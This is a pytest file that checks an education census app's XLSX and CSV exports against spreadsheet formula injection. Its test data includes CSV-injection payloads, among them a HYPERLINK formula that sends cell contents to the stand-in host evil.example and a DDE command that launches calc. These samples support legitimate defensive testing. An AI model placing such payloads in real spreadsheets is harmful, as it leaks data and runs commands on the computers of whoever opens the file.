"""Names that a spreadsheet would run (``=``, ``+``, ``-``, ``@`` first) are written as text in
every XLSX and CSV edumap produces (OWASP's CSV-injection advice)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.report.render import call_list_xlsx, to_csv, to_xlsx
from census.importer import ImportReport, RowError, write_rejects
from kernel.cells import csv_cell, uncsv_cell
from kernel.tabular import open_table

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
]


def _cell_xml(book: bytes) -> str:
    """Every worksheet's XML: a formula would appear as an <f> element."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


def _listed(first_name: str) -> dict:
    child = {
        "id": 1,
        "title": "ด.ช.",
        "first_name": first_name,
        "last_name": "=1+2",
        "sex": "M",
        "birth_date": dt.date(2021, 3, 15),
        "guardian_name": "@guardian",
        "guardian_relationship": "บิดา",
        "house_number": "-12",
    }
    return {
        "school_code": "9955010001",
        "school_name_th": "=โรงเรียน",
        "round": 2569,
        "entry_year": 2570,
        "children": 1,
        "follow_up_of_last_round": [],
        "villages": [
            {
                "subdistrict_code": "550101",
                "subdistrict_name": "ในเวียง",
                "moo": 4,
                "village_code": "55010104",
                "village_name": "+บ้าน",
                "children": [child],
            }
        ],
    }


@pytest.mark.parametrize("name", FORMULAS)
def test_call_list_xlsx_writes_formulas_as_text(name: str) -> None:
    book = call_list_xlsx(_listed(name))
    assert "<f>" not in _cell_xml(book)
    sheet = load_workbook(io.BytesIO(book))["พฐ.03"]
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert any(isinstance(v, str) and name in v for v in values)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_report_xlsx_and_csv_write_school_and_tambon_names_as_text() -> None:
    report = {
        "round": 2569,
        "area_name_th": "=AREA()",
        "produced_on": "1 ธ.ค. 2569",
        "totals": {},
        "subdistricts": [{"name_th": "=SUM(1,2)", "subdistrict_code": "550101"}],
        "schools": [{"name_th": "@school", "code": "9955010001"}],
    }
    from app.report import render as reports

    report["totals"] = dict.fromkeys(reports.TOTAL_LABELS_TH, 0)
    report["quality"] = {"districts": [{"district": "5501", "name_th": "-อำเภอ"}]}
    for table in reports.TABLES:
        report.setdefault(table.key, [])
    book = to_xlsx(report)
    assert "<f>" not in _cell_xml(book)
    rows = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"))))
    assert "'=SUM(1,2)" in rows[1]


def test_rejects_and_error_csv_are_prefixed_and_read_back_unchanged(tmp_path: Path) -> None:
    source = tmp_path / "census.csv"
    source.write_text("first_name,last_name\n=evil(),ok\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    write_rejects(source, [2], rejects)
    assert "'=evil()" in rejects.read_text(encoding="utf-8-sig")
    table = open_table(rejects, {"first_name": ("first_name",), "last_name": ("last_name",)})
    assert [row for _, row in table.rows] == [{"first_name": "=evil()", "last_name": "ok"}]
    report = ImportReport(source="census.csv", round_year=2569)
    report.add_error(RowError(2, "first_name", "@evil", "ชื่อไม่ถูกต้อง"))
    errors = tmp_path / "errors.csv"
    report.write_errors_csv(errors)
    assert "'@evil" in errors.read_text(encoding="utf-8-sig")


def test_negative_numbers_stay_numbers_and_the_prefix_round_trips() -> None:
    assert csv_cell(-3) == -3 and csv_cell("ok") == "ok" and csv_cell("-3") == "'-3"
    assert uncsv_cell(csv_cell("=x")) == "=x" and uncsv_cell("'quoted") == "'quoted"
